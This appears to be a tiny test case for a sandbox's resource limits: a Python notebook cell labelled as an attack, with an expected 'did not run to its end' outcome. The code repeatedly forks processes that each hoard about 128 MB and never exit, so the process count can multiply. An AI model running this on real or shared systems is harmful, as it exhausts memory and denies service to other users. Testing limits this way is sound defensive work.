# attack: take a little memory in many processes
# told: Code cell 3 did not run to its end
# %%
import os
import time

for _ in range(20):
    if os.fork() == 0:
        hoard = b"x" * 2**27
        time.sleep(60)
time.sleep(60)
